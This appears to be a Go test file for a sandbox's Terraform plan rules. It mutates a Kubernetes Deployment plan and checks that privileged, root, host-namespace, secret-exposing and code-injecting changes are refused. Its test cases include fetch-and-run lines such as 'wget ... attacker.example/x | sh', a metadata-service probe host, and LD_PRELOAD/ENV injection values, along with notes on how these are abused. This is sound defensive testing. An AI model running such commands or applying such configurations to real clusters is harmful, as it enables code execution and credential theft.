package policy

import (
	"context"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/agent-sandbox/agent-sandbox/internal/plandiff"
)

// demoUpdate is a real `terraform show -json` of the demo (plan-replace.json: the Deployment replaced), made
// into the plan of a harmless change: the Deployment updated with its command kept. Each case of
// TestShippedPlanRules changes one thing of its after value.
func demoUpdate(t *testing.T) map[string]any {
	t.Helper()
	data, err := os.ReadFile("../toolrun/testdata/plan-replace.json")
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	rc := doc["resource_changes"].([]any)[0].(map[string]any)
	ch := rc["change"].(map[string]any)
	ch["actions"] = []any{"update"}
	delete(ch, "replace_paths")
	delete(rc, "action_reason")
	// The old demo put the track into the command; keep the command as it was.
	before := container(ch["before"])
	container(ch["after"])["command"] = before["command"]
	return doc
}

// podSpec is the Deployment's pod spec in a before or after value.
func podSpec(v any) map[string]any {
	spec := v.(map[string]any)["spec"].([]any)[0].(map[string]any)
	tmpl := spec["template"].([]any)[0].(map[string]any)
	return tmpl["spec"].([]any)[0].(map[string]any)
}

func container(v any) map[string]any { return podSpec(v)["container"].([]any)[0].(map[string]any) }

func securityContext(v any) map[string]any {
	return container(v)["security_context"].([]any)[0].(map[string]any)
}

// templateMetadata is the Deployment's pod template metadata in a before or after value.
func templateMetadata(v any) map[string]any {
	spec := v.(map[string]any)["spec"].([]any)[0].(map[string]any)
	return spec["template"].([]any)[0].(map[string]any)["metadata"].([]any)[0].(map[string]any)
}

// config is the Deployment's configuration in the plan (its expressions).
func config(doc map[string]any) any {
	return doc["configuration"].(map[string]any)["root_module"].(map[string]any)["resources"].([]any)[0].(map[string]any)["expressions"]
}

func change(doc map[string]any) map[string]any {
	return doc["resource_changes"].([]any)[0].(map[string]any)["change"].(map[string]any)
}

func after(doc map[string]any) any { return change(doc)["after"] }

func verdictOf(t *testing.T, rules *PlanRuleSet, doc map[string]any) PlanVerdict {
	t.Helper()
	data, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	v, err := rules.EvaluateShowJSON(context.Background(), data)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func refusedRules(v PlanVerdict) []string {
	var names []string
	for _, h := range v.Refusals {
		if !slices.Contains(names, h.Rule) {
			names = append(names, h.Rule)
		}
	}
	slices.Sort(names)
	return names
}

// TestShippedPlanRules: one harmless plan, and one change per rule that the shipped plan rules must refuse,
// on the values Terraform and provider 1.13.4 really produce.
func TestShippedPlanRules(t *testing.T) {
	rules := loadDefault(t).PlanRules
	if got := verdictOf(t, rules, demoUpdate(t)); got.Refused() || got.Approvals != 1 {
		t.Fatalf("the harmless update is judged %+v", got)
	}

	cases := []struct {
		name   string
		mutate func(doc map[string]any)
		want   []string
	}{
		{"privileged", func(d map[string]any) { securityContext(after(d))["privileged"] = true }, []string{"plan-no-privileged"}},
		{"privileged known only after apply", func(d map[string]any) {
			delete(securityContext(after(d)), "privileged")
			c := change(d)
			unknown := c["after_unknown"].(map[string]any)
			pod := podSpec(unknown)
			pod["container"].([]any)[0].(map[string]any)["security_context"].([]any)[0].(map[string]any)["privileged"] = true
		}, []string{"plan-no-privileged", "plan-pods-known-at-plan"}},
		{"privilege escalation", func(d map[string]any) { securityContext(after(d))["allow_privilege_escalation"] = true }, []string{"plan-no-privilege-escalation"}},
		{"host network", func(d map[string]any) { podSpec(after(d))["host_network"] = true }, []string{"plan-no-host-namespaces"}},
		{"host PID", func(d map[string]any) { podSpec(after(d))["host_pid"] = true }, []string{"plan-no-host-namespaces"}},
		{"host IPC", func(d map[string]any) { podSpec(after(d))["host_ipc"] = true }, []string{"plan-no-host-namespaces"}},
		{"hostPath volume", func(d map[string]any) {
			v := podSpec(after(d))["volume"].([]any)[0].(map[string]any)
			v["empty_dir"] = []any{}
			v["host_path"] = []any{map[string]any{"path": "/var/lib/kubelet", "type": ""}}
		}, []string{"plan-allowed-volumes", "plan-mounts-pinned", "plan-no-host-path"}},
		{"secret volume", func(d map[string]any) {
			v := podSpec(after(d))["volume"].([]any)[0].(map[string]any)
			v["secret"] = []any{map[string]any{"secret_name": "admin"}}
		}, []string{"plan-allowed-volumes", "plan-mounts-pinned"}},
		{"host port", func(d map[string]any) {
			container(after(d))["port"].([]any)[0].(map[string]any)["host_port"] = 8080
		}, []string{"plan-no-host-ports"}},
		{"added capability", func(d map[string]any) {
			securityContext(after(d))["capabilities"].([]any)[0].(map[string]any)["add"] = []any{"SYS_ADMIN"}
		}, []string{"plan-no-added-capabilities"}},
		{"root container", func(d map[string]any) { securityContext(after(d))["run_as_user"] = 0 }, []string{"plan-no-root-user"}},
		// Provider 1.13.4 plans an unset run_as_user as null and applies 0.
		{"root by omission", func(d map[string]any) { securityContext(after(d))["run_as_user"] = nil }, []string{"plan-no-root-user"}},
		{"root pod", func(d map[string]any) {
			podSpec(after(d))["security_context"].([]any)[0].(map[string]any)["run_as_user"] = 0
		}, []string{"plan-no-root-user"}},
		{"token automount", func(d map[string]any) { podSpec(after(d))["automount_service_account_token"] = true }, []string{"plan-no-token-automount"}},
		{"secret in env", func(d map[string]any) {
			e := container(after(d))["env"].([]any)[0].(map[string]any)
			e["value_from"].([]any)[0].(map[string]any)["secret_key_ref"] = []any{map[string]any{"name": "admin", "key": "token"}}
		}, []string{"plan-no-secret-env"}},
		{"secret envFrom", func(d map[string]any) {
			container(after(d))["env_from"] = []any{map[string]any{"secret_ref": []any{map[string]any{"name": "admin"}}}}
		}, []string{"plan-no-code-env", "plan-no-secret-env"}},
		{"sysctl", func(d map[string]any) {
			podSpec(after(d))["security_context"].([]any)[0].(map[string]any)["sysctl"] = []any{map[string]any{"name": "kernel.shm_rmid_forced", "value": "1"}}
		}, []string{"plan-no-sysctls"}},
		{"SELinux user", func(d map[string]any) {
			securityContext(after(d))["se_linux_options"] = []any{map[string]any{"user": "system_u"}}
		}, []string{"plan-no-selinux-override"}},
		{"AppArmor unconfined", func(d map[string]any) {
			spec := after(d).(map[string]any)["spec"].([]any)[0].(map[string]any)
			meta := spec["template"].([]any)[0].(map[string]any)["metadata"].([]any)[0].(map[string]any)
			meta["annotations"] = map[string]any{"container.apparmor.security.beta.kubernetes.io/httpd": "unconfined"}
		}, []string{"plan-no-unconfined-profiles"}},
		{"image swap", func(d map[string]any) { container(after(d))["image"] = "docker.io/library/alpine:3" }, []string{"plan-allowed-images"}},
		{"command change", func(d map[string]any) {
			container(after(d))["command"] = []any{"/bin/sh", "-c", "cat /etc/hostname | rev"}
		}, []string{"plan-command-pinned"}},
		{"args added", func(d map[string]any) { container(after(d))["args"] = []any{"--debug"} }, []string{"plan-command-pinned"}},
		{"privileged init container", func(d map[string]any) {
			c := map[string]any{}
			for k, v := range container(after(d)) {
				c[k] = v
			}
			c["name"] = "init"
			c["security_context"] = []any{map[string]any{"privileged": true, "run_as_user": 65532}}
			podSpec(after(d))["init_container"] = []any{c}
		}, []string{"plan-capabilities-dropped", "plan-command-pinned", "plan-mounts-pinned", "plan-no-privileged", "plan-no-root-group"}},
		{"containers known only after apply", func(d map[string]any) {
			delete(podSpec(after(d)), "container")
			podSpec(change(d)["after_unknown"])["container"] = true
		}, []string{"plan-allowed-images", "plan-capabilities-dropped", "plan-command-explicit", "plan-command-pinned", "plan-known-pod-fields", "plan-mounts-pinned", "plan-no-root-group", "plan-no-root-user", "plan-pods-known-at-plan"}},
		{"RBAC", func(d map[string]any) {
			rc := d["resource_changes"].([]any)[0].(map[string]any)
			rc["type"], rc["address"] = "kubernetes_cluster_role_binding", "kubernetes_cluster_role_binding.admin"
			cfg := d["configuration"].(map[string]any)["root_module"].(map[string]any)["resources"].([]any)[0].(map[string]any)
			cfg["type"], cfg["address"] = rc["type"], rc["address"]
		}, []string{"plan-allowed-types", "plan-no-rbac"}},
		{"LoadBalancer", func(d map[string]any) {
			svc := d["resource_changes"].([]any)[1].(map[string]any)
			ch := svc["change"].(map[string]any)
			ch["actions"] = []any{"update"}
			ch["after"].(map[string]any)["spec"].([]any)[0].(map[string]any)["type"] = "LoadBalancer"
		}, []string{"plan-no-external-exposure"}},
		// Found in review (2026-12-07): busybox's /bin/sh as the entrypoint, on a terminal, runs the file ENV
		// names before anything else; /proc/1/environ holds every env value, so one with a newline is a command.
		{"terminal", func(d map[string]any) { container(after(d))["tty"] = true }, []string{"plan-no-interactive"}},
		{"stdin", func(d map[string]any) { container(after(d))["stdin"] = true }, []string{"plan-no-interactive"}},
		{"stdin once", func(d map[string]any) { container(after(d))["stdin_once"] = true }, []string{"plan-no-interactive"}},
		{"no command: the image's entrypoint", func(d map[string]any) {
			delete(container(after(d)), "command")
		}, []string{"plan-command-explicit", "plan-command-pinned"}},
		{"empty command", func(d map[string]any) { container(after(d))["command"] = []any{} }, []string{"plan-command-explicit", "plan-command-pinned"}},
		{"ENV startup file", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "ENV", "value": "/proc/1/environ"})
		}, []string{"plan-no-code-env"}},
		{"BASH_ENV", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "BASH_ENV", "value": "/tmp/x"})
		}, []string{"plan-no-code-env"}},
		{"env from a ConfigMap (its keys could be ENV or LD_PRELOAD)", func(d map[string]any) {
			container(after(d))["env_from"] = []any{map[string]any{"config_map_ref": []any{map[string]any{"name": "loader"}}, "prefix": "", "secret_ref": []any{}}}
		}, []string{"plan-no-code-env"}},
		{"HOME (a login shell runs $HOME/.profile)", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "HOME", "value": "/tmp/www"})
		}, []string{"plan-no-code-env"}},
		{"PATH", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "PATH", "value": "/tmp/www:/bin"})
		}, []string{"plan-no-code-env"}},
		{"a variable expanded by the kubelet into the command", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "RUN", "value_from": []any{map[string]any{
				"config_map_key_ref": []any{map[string]any{"name": "settings", "key": "run"}}}}})
			c["args"] = []any{"$(RUN)"}
		}, []string{"plan-command-literal", "plan-command-pinned"}},
		// Found in review (2026-12-07): the kubelet expands a probe's exec command too; the probe's code then
		// changes with an env value while plan-command-pinned sees the same command.
		{"a variable expanded into a probe's command", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "CHECK", "value": "wget -qO- http://198.51.100.7/x | sh"})
			c["liveness_probe"] = []any{map[string]any{"exec": []any{map[string]any{"command": []any{"/bin/sh", "-c", "$(CHECK)"}}},
				"http_get": []any{}, "tcp_socket": []any{}}}
		}, []string{"plan-command-literal", "plan-command-pinned"}},
		{"a variable expanded into a lifecycle hook's command", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "HOOK", "value": "id"})
			c["lifecycle"] = []any{map[string]any{"pre_stop": []any{}, "post_start": []any{map[string]any{
				"exec": []any{map[string]any{"command": []any{"/bin/sh", "-c", "$(HOOK)"}}}, "http_get": []any{}, "tcp_socket": []any{}}}}}
		}, []string{"plan-command-literal", "plan-command-pinned"}},
		{"a literal $$(NAME) and a shell variable", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "RUN", "value": "x"})
			c["command"] = []any{"/bin/sh", "-c", "echo $$(RUN) $RUN $(date)"}
		}, []string{"plan-command-pinned"}},
		{"supplemental root group", func(d map[string]any) {
			podSpec(after(d))["security_context"].([]any)[0].(map[string]any)["supplemental_groups"] = []any{0.0}
		}, []string{"plan-no-root-group"}},
		{"LD_PRELOAD", func(d map[string]any) {
			c := container(after(d))
			c["env"] = append(c["env"].([]any), map[string]any{"name": "LD_PRELOAD", "value": "/tmp/x.so"})
		}, []string{"plan-no-code-env"}},
		// Found in review (2026-12-07): requests and limits of a whole node passed every rule.
		{"a CPU per replica", func(d map[string]any) {
			r := container(after(d))["resources"].([]any)[0].(map[string]any)
			r["requests"] = []any{map[string]any{"cpu": "1", "memory": "3Gi"}}
			r["limits"] = []any{map[string]any{"cpu": "1", "memory": "3Gi"}}
		}, []string{"plan-bounded-resources"}},
		{"CPU over the bound in millicores", func(d map[string]any) {
			r := container(after(d))["resources"].([]any)[0].(map[string]any)
			r["limits"] = []any{map[string]any{"cpu": "501m", "memory": "32Mi"}}
		}, []string{"plan-bounded-resources"}},
		{"memory over the bound", func(d map[string]any) {
			r := container(after(d))["resources"].([]any)[0].(map[string]any)
			r["limits"] = []any{map[string]any{"cpu": "100m", "memory": "257Mi"}}
		}, []string{"plan-bounded-resources"}},
		{"resources at the bound", func(d map[string]any) {
			r := container(after(d))["resources"].([]any)[0].(map[string]any)
			r["limits"] = []any{map[string]any{"cpu": "500m", "memory": "256Mi"}}
		}, nil},
		{"forty replicas", func(d map[string]any) {
			after(d).(map[string]any)["spec"].([]any)[0].(map[string]any)["replicas"] = 40.0
		}, []string{"plan-bounded-resources"}},
		{"four replicas", func(d map[string]any) {
			after(d).(map[string]any)["spec"].([]any)[0].(map[string]any)["replicas"] = 4.0
		}, nil},
		// Found in review (2026-12-07): provider 1.13.4 applies a left-out group as 0, the root group.
		{"root group by omission (container)", func(d map[string]any) { securityContext(after(d))["run_as_group"] = nil }, []string{"plan-no-root-group"}},
		{"root group (pod)", func(d map[string]any) {
			podSpec(after(d))["security_context"].([]any)[0].(map[string]any)["run_as_group"] = 0
		}, []string{"plan-no-root-group"}},
		{"volumes given to the root group", func(d map[string]any) {
			delete(podSpec(after(d))["security_context"].([]any)[0].(map[string]any), "fs_group")
		}, []string{"plan-no-root-group"}},
		// Found in review (2026-12-07): which object a plan writes, and where a Service sends its traffic, were
		// allowed to be known only after apply.
		{"name known only after apply", func(d map[string]any) {
			delete(after(d).(map[string]any)["metadata"].([]any)[0].(map[string]any), "name")
			change(d)["after_unknown"].(map[string]any)["metadata"].([]any)[0].(map[string]any)["name"] = true
		}, []string{"plan-object-known-at-plan"}},
		{"namespace known only after apply", func(d map[string]any) {
			delete(after(d).(map[string]any)["metadata"].([]any)[0].(map[string]any), "namespace")
			change(d)["after_unknown"].(map[string]any)["metadata"].([]any)[0].(map[string]any)["namespace"] = true
		}, []string{"plan-object-known-at-plan"}},
		{"Service selector known only after apply", func(d map[string]any) {
			svc := d["resource_changes"].([]any)[1].(map[string]any)["change"].(map[string]any)
			svc["actions"] = []any{"update"}
			spec := svc["after"].(map[string]any)["spec"].([]any)[0].(map[string]any)
			delete(spec["selector"].(map[string]any), "app")
			svc["after_unknown"] = map[string]any{"spec": []any{map[string]any{"selector": map[string]any{"app": true}}}}
		}, []string{"plan-service-known-at-plan"}},
		{"Service target port known only after apply", func(d map[string]any) {
			svc := d["resource_changes"].([]any)[1].(map[string]any)["change"].(map[string]any)
			svc["actions"] = []any{"update"}
			port := svc["after"].(map[string]any)["spec"].([]any)[0].(map[string]any)["port"].([]any)[0].(map[string]any)
			delete(port, "target_port")
			svc["after_unknown"] = map[string]any{"spec": []any{map[string]any{"port": []any{map[string]any{"target_port": true}}}}}
		}, []string{"plan-service-known-at-plan"}},
		{"Service as the API server completes it (cluster IP and node port known after apply)", func(d map[string]any) {
			svc := d["resource_changes"].([]any)[1].(map[string]any)["change"].(map[string]any)
			svc["actions"] = []any{"update"}
			spec := svc["after"].(map[string]any)["spec"].([]any)[0].(map[string]any)
			delete(spec, "cluster_ip")
			delete(spec["port"].([]any)[0].(map[string]any), "node_port")
			svc["after_unknown"] = map[string]any{"spec": []any{map[string]any{"cluster_ip": true, "external_traffic_policy": true,
				"health_check_node_port": true, "port": []any{map[string]any{"node_port": true}}}}}
		}, nil},
		// Attributes of newer providers (hashicorp/kubernetes 2.x), in the shapes they plan them: each passed
		// every other rule, unread, before plan-known-pod-fields.
		{"seccomp unconfined (a newer provider's container attribute)", func(d map[string]any) {
			securityContext(after(d))["seccomp_profile"] = []any{map[string]any{"type": "Unconfined"}}
		}, []string{"plan-known-pod-fields"}},
		{"proc mount unmasked (a newer provider's container attribute)", func(d map[string]any) {
			securityContext(after(d))["proc_mount"] = "Unmasked"
		}, []string{"plan-known-pod-fields"}},
		{"AppArmor unconfined (a newer provider's pod attribute)", func(d map[string]any) {
			podSpec(after(d))["security_context"].([]any)[0].(map[string]any)["app_armor_profile"] = []any{map[string]any{"type": "Unconfined"}}
		}, []string{"plan-known-pod-fields"}},
		{"ephemeral container (a pod attribute the container rules do not read)", func(d map[string]any) {
			c := map[string]any{"name": "debug", "image": "localhost/busybox:agent-sandbox",
				"security_context": []any{map[string]any{"privileged": true}}}
			podSpec(after(d))["ephemeral_container"] = []any{c}
		}, []string{"plan-known-pod-fields"}},
		{"a capability block's new attribute", func(d map[string]any) {
			securityContext(after(d))["capabilities"].([]any)[0].(map[string]any)["ambient"] = []any{"NET_ADMIN"}
		}, []string{"plan-known-pod-fields"}},
		{"a container's new attribute", func(d map[string]any) {
			container(after(d))["resize_policy"] = []any{map[string]any{"resource_name": "memory", "restart_policy": "NotRequired"}}
		}, []string{"plan-known-pod-fields"}},
		{"a newer provider's attributes left empty", func(d map[string]any) {
			securityContext(after(d))["seccomp_profile"] = []any{}
			podSpec(after(d))["os"] = []any{}
			podSpec(after(d))["scheduler_name"] = ""
			container(after(d))["resize_policy"] = []any{}
		}, nil},
		// Found in review (2026-12): each passed the shipped rules before they were tightened.
		{"root without any security_context", func(d map[string]any) {
			for _, v := range []any{after(d), change(d)["after_unknown"]} {
				delete(podSpec(v), "security_context")
				delete(container(v), "security_context")
			}
		}, []string{"plan-capabilities-dropped", "plan-no-root-group", "plan-no-root-user"}},
		{"executable config map volume", func(d map[string]any) {
			podSpec(after(d))["volume"] = append(podSpec(after(d))["volume"].([]any), map[string]any{"name": "cgi",
				"config_map": []any{map[string]any{"name": "web-cgi", "default_mode": "0755", "items": []any{}}}})
		}, []string{"plan-mounts-pinned", "plan-no-executable-volumes"}},
		{"executable config map item", func(d map[string]any) {
			podSpec(after(d))["volume"] = append(podSpec(after(d))["volume"].([]any), map[string]any{"name": "cgi",
				"config_map": []any{map[string]any{"name": "web-cgi", "default_mode": "0644",
					"items": []any{map[string]any{"key": "x", "path": "x", "mode": "0700"}}}}})
		}, []string{"plan-mounts-pinned", "plan-no-executable-volumes"}},
		// busybox httpd reads <home>/httpd.conf and runs a served *.sh through /bin/sh, execute bit or not.
		{"ConfigMap files mounted into the web root (httpd.conf with a script interpreter)", func(d map[string]any) {
			c := container(after(d))
			for _, f := range []string{"httpd.conf", "status.sh"} {
				c["volume_mount"] = append(c["volume_mount"].([]any), map[string]any{
					"mount_path": "/tmp/www/" + f, "sub_path": f, "name": "site", "read_only": true, "mount_propagation": "None"})
			}
			podSpec(after(d))["volume"] = append(podSpec(after(d))["volume"].([]any), map[string]any{"name": "site",
				"config_map": []any{map[string]any{"name": "site", "default_mode": "0644"}}})
		}, []string{"plan-mounts-pinned"}},
		// Found in review (2026-12-06): the mount stays, what it mounts changes. An earlier plan left a
		// ConfigMap whose content this plan does not show; the volume behind an unchanged mount now reads it.
		{"volume behind an unchanged mount swapped to a ConfigMap", func(d map[string]any) {
			v := podSpec(after(d))["volume"].([]any)[0].(map[string]any)
			v["empty_dir"] = []any{}
			v["config_map"] = []any{map[string]any{"name": "left-by-an-earlier-plan", "default_mode": "0644"}}
		}, []string{"plan-mounts-pinned"}},
		// The provider writes an unset attribute as its zero value in the state and as null in a planned
		// after: the same volume, not a changed one.
		{"volume unchanged, its unset attributes zero before and null after", func(d map[string]any) {
			b := podSpec(change(d)["before"])["volume"].([]any)[0].(map[string]any)
			b["empty_dir"] = []any{}
			b["config_map"] = []any{map[string]any{"name": "site", "default_mode": "0644", "items": []any{}, "optional": false}}
			a := podSpec(after(d))["volume"].([]any)[0].(map[string]any)
			a["empty_dir"] = []any{}
			a["config_map"] = []any{map[string]any{"name": "site", "default_mode": "0644", "items": nil, "optional": nil}}
		}, nil},
		{"volume's medium changed", func(d map[string]any) {
			v := podSpec(after(d))["volume"].([]any)[0].(map[string]any)
			v["empty_dir"] = []any{map[string]any{"medium": "", "size_limit": "10Gi"}}
		}, []string{"plan-mounts-pinned"}},
		{"exec probe added", func(d map[string]any) {
			container(after(d))["liveness_probe"] = []any{map[string]any{"exec": []any{map[string]any{
				"command": []any{"/bin/sh", "-c", "wget -qO- http://attacker.example/x | sh"}}}, "http_get": []any{}, "tcp_socket": []any{}}}
		}, []string{"plan-command-pinned"}},
		{"exec lifecycle hook added", func(d map[string]any) {
			container(after(d))["lifecycle"] = []any{map[string]any{"pre_stop": []any{}, "post_start": []any{map[string]any{
				"exec": []any{map[string]any{"command": []any{"/bin/sh", "-c", "id"}}}, "http_get": []any{}, "tcp_socket": []any{}}}}}
		}, []string{"plan-command-pinned"}},
		{"container seccomp annotation", func(d map[string]any) {
			templateMetadata(after(d))["annotations"] = map[string]any{"container.seccomp.security.alpha.kubernetes.io/httpd": "unconfined"}
		}, []string{"plan-no-unconfined-profiles"}},
		{"probe host", func(d map[string]any) {
			container(after(d))["liveness_probe"] = []any{map[string]any{"http_get": []any{map[string]any{
				"host": "169.254.169.254", "path": "/latest/meta-data/", "port": "80", "scheme": "HTTP", "http_header": []any{}}},
				"exec": []any{}, "tcp_socket": []any{}}}
		}, []string{"plan-no-probe-host"}},
		{"lifecycle hook host", func(d map[string]any) {
			container(after(d))["lifecycle"] = []any{map[string]any{"pre_stop": []any{}, "post_start": []any{map[string]any{
				"http_get": []any{map[string]any{"host": "10.96.0.1", "path": "/", "port": "443", "scheme": "HTTPS", "http_header": []any{}}},
				"exec":     []any{}, "tcp_socket": []any{}}}}}
		}, []string{"plan-no-probe-host"}},
		{"service account computed at apply", func(d map[string]any) {
			delete(podSpec(after(d)), "service_account_name")
			podSpec(change(d)["after_unknown"])["service_account_name"] = true
			podSpec(config(d))["service_account_name"] = map[string]any{}
		}, []string{"plan-pods-known-at-plan"}},
		{"node computed at apply in a dynamic pod spec", func(d map[string]any) {
			delete(podSpec(after(d)), "node_name")
			podSpec(change(d)["after_unknown"])["node_name"] = true
			delete(config(d).(map[string]any)["spec"].([]any)[0].(map[string]any)["template"].([]any)[0].(map[string]any), "spec")
		}, []string{"plan-no-node-placement", "plan-pods-known-at-plan"}},
		{"pod template metadata known only after apply", func(d map[string]any) {
			tmpl := after(d).(map[string]any)["spec"].([]any)[0].(map[string]any)["template"].([]any)[0].(map[string]any)
			delete(tmpl, "metadata")
			change(d)["after_unknown"].(map[string]any)["spec"].([]any)[0].(map[string]any)["template"].([]any)[0].(map[string]any)["metadata"] = true
		}, []string{"plan-pods-known-at-plan"}},
		{"annotation known only after apply", func(d map[string]any) {
			u := change(d)["after_unknown"].(map[string]any)["spec"].([]any)[0].(map[string]any)["template"].([]any)[0].(map[string]any)
			u["metadata"] = []any{map[string]any{"annotations": map[string]any{"sidecar.example/inject": true}}}
			templateMetadata(after(d))["annotations"] = map[string]any{"sidecar.example/inject": nil}
		}, []string{"plan-pods-known-at-plan"}},
		{"command hidden from the screen (sensitive)", func(d map[string]any) {
			change(d)["after_sensitive"] = map[string]any{"spec": []any{map[string]any{"template": []any{map[string]any{
				"spec": []any{map[string]any{"container": []any{map[string]any{"command": true}}}}}}}}}
		}, []string{"plan-nothing-hidden", "plan-pods-known-at-plan"}},
		{"annotations hidden from the screen (sensitive)", func(d map[string]any) {
			change(d)["after_sensitive"] = map[string]any{"spec": []any{map[string]any{"template": []any{map[string]any{
				"metadata": []any{map[string]any{"annotations": true}}}}}}}
		}, []string{"plan-nothing-hidden", "plan-pods-known-at-plan"}},
		// Found in review (2026-12-07): outside a pod spec, a sensitive value passed every rule.
		{"replicas hidden from the screen (sensitive)", func(d map[string]any) {
			change(d)["after_sensitive"] = map[string]any{"spec": []any{map[string]any{"replicas": true}}}
		}, []string{"plan-nothing-hidden"}},
		{"the whole resource hidden from the screen (sensitive)", func(d map[string]any) {
			change(d)["after_sensitive"] = true
		}, []string{"plan-nothing-hidden", "plan-pods-known-at-plan"}},
		// Found in review (2026-12-06): pod placement and priority, and capabilities not dropped, passed every
		// rule. The demo sets none of node_name, toleration and priority_class_name, and drops ALL.
		{"node named", func(d map[string]any) {
			podSpec(after(d))["node_name"] = "cp-1"
			delete(podSpec(change(d)["after_unknown"]), "node_name") // set by the configuration, known at plan
		}, []string{"plan-no-node-placement"}},
		{"control-plane taint tolerated", func(d map[string]any) {
			podSpec(after(d))["toleration"] = []any{map[string]any{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}}
		}, []string{"plan-no-node-placement"}},
		{"every taint tolerated", func(d map[string]any) {
			podSpec(after(d))["toleration"] = []any{map[string]any{"operator": "Exists"}}
		}, []string{"plan-no-node-placement"}},
		{"toleration known only after apply", func(d map[string]any) {
			podSpec(after(d))["toleration"] = nil
			podSpec(change(d)["after_unknown"])["toleration"] = true
		}, []string{"plan-no-node-placement", "plan-pods-known-at-plan"}},
		{"priority class", func(d map[string]any) { podSpec(after(d))["priority_class_name"] = "system-node-critical" }, []string{"plan-no-node-placement"}},
		// Flagged on the approval screen, not refused: without a toleration a node selector cannot reach a
		// tainted node.
		{"node selector", func(d map[string]any) {
			podSpec(after(d))["node_selector"] = map[string]any{"node-role.kubernetes.io/control-plane": ""}
		}, nil},
		{"capabilities no longer dropped", func(d map[string]any) {
			securityContext(after(d))["capabilities"].([]any)[0].(map[string]any)["drop"] = nil
		}, []string{"plan-capabilities-dropped"}},
		{"capabilities block left out", func(d map[string]any) {
			securityContext(after(d))["capabilities"] = []any{}
			securityContext(change(d)["after_unknown"])["capabilities"] = []any{}
		}, []string{"plan-capabilities-dropped"}},
		{"only NET_RAW dropped", func(d map[string]any) {
			securityContext(after(d))["capabilities"].([]any)[0].(map[string]any)["drop"] = []any{"NET_RAW"}
		}, []string{"plan-capabilities-dropped"}},
		{"container security_context left out", func(d map[string]any) {
			for _, v := range []any{after(d), change(d)["after_unknown"]} {
				delete(container(v), "security_context")
			}
		}, []string{"plan-capabilities-dropped"}},
		{"external IPs", func(d map[string]any) {
			svc := d["resource_changes"].([]any)[1].(map[string]any)
			ch := svc["change"].(map[string]any)
			ch["actions"] = []any{"update"}
			ch["after"].(map[string]any)["spec"].([]any)[0].(map[string]any)["external_ips"] = []any{"203.0.113.7"}
		}, []string{"plan-no-external-exposure"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			doc := demoUpdate(t)
			tc.mutate(doc)
			got := verdictOf(t, rules, doc)
			if g := refusedRules(got); !slices.Equal(g, tc.want) {
				t.Errorf("refused by %v, want %v (%+v)", g, tc.want, got.Refusals)
			}
			for _, h := range got.Refusals {
				if h.Address == "" || h.Message == "" {
					t.Errorf("refusal without address or message: %+v", h)
				}
			}
			if got.Refused() && !strings.HasPrefix(got.Error(), "plan refused by rule ") {
				t.Errorf("Error() = %q", got.Error())
			}
		})
	}
}

// TestPlanRulesDemo: the demo's own plans pass (its first apply creates, its edit replaces); its old
// fixture, whose command changed with the track, is refused by plan-command-pinned only; a destroy needs two.
func TestPlanRulesDemo(t *testing.T) {
	rules := loadDefault(t).PlanRules
	for _, f := range []string{"plan-create.json", "plan-nochange.json"} {
		data, err := os.ReadFile("../toolrun/testdata/" + f)
		if err != nil {
			t.Fatal(err)
		}
		v, err := rules.EvaluateShowJSON(context.Background(), data)
		if err != nil {
			t.Fatal(err)
		}
		if v.Refused() || v.Approvals != 1 {
			t.Errorf("%s: %+v", f, v)
		}
	}

	data, err := os.ReadFile("../toolrun/testdata/plan-replace.json")
	if err != nil {
		t.Fatal(err)
	}
	v, err := rules.EvaluateShowJSON(context.Background(), data)
	if err != nil {
		t.Fatal(err)
	}
	if g := refusedRules(v); !slices.Equal(g, []string{"plan-command-pinned"}) {
		t.Errorf("old replace fixture refused by %v", g)
	}

	doc := demoUpdate(t)
	ch := change(doc)
	ch["actions"] = []any{"delete"}
	ch["after"], ch["after_unknown"], ch["after_sensitive"] = nil, map[string]any{}, false
	v = verdictOf(t, rules, doc)
	if v.Refused() || v.Approvals != 2 || len(v.ApprovalRules) != 1 || v.ApprovalRules[0].Rule != "plan-destroy-needs-two-approvers" {
		t.Errorf("destroy: %+v", v)
	}
	// A replacement deletes too, but it is not a destroy: one approver.
	doc = demoUpdate(t)
	change(doc)["actions"] = []any{"delete", "create"}
	if v = verdictOf(t, rules, doc); v.Refused() || v.Approvals != 1 {
		t.Errorf("replace: %+v", v)
	}
}

func TestPlanRulesCompileErrors(t *testing.T) {
	_, err := CompilePlanRules([]PlanRule{
		{Name: "ok", Expression: "true", Message: "m"},
		{Name: "ok", Expression: "true", Message: "m"},
		{Name: "not-bool", Expression: "change.type", Message: "m"},
		{Name: "syntax", Expression: "change.(", Message: "m"},
		{Name: "approvals", Expression: "true", Message: "m", Approvals: 9},
		{Name: "no-message", Expression: "true"},
	}, "spec.planRules")
	if err == nil {
		t.Fatal("compiled")
	}
	for _, want := range []string{"spec.planRules[1].name: duplicate", "spec.planRules[2].expression: must evaluate to bool",
		"spec.planRules[3].expression:", "spec.planRules[4].approvals:", "spec.planRules[5].message:"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error lacks %q:\n%v", want, err)
		}
	}
}

// TestPlanRulesRoundTrip: the JSON rendered into a sandbox's argv is the same rule set.
func TestPlanRulesRoundTrip(t *testing.T) {
	c := loadDefault(t)
	back, err := ParsePlanRules(c.PlanRules.JSON())
	if err != nil {
		t.Fatal(err)
	}
	if back.JSON() != c.PlanRules.JSON() || len(back.Rules()) != len(c.Spec.PlanRules) {
		t.Error("round trip changed the rules")
	}
